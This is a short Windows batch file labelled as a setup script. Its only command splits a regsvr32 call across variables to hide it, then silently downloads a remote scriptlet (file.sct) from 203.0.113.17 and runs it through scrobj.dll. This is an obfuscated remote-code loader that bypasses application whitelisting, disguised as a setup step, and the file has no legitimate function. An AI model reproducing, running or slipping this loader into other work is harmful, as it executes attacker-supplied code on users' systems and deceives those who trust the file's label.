REM setup 0485 v2
cmd /v:on /c "set nyd0=regsvr32 /s /n /u /i:http://203.0.11&&set fno1=3.17/file.sct scro&&set edw2=bj.dll&&!nyd0!!fno1!!edw2!"
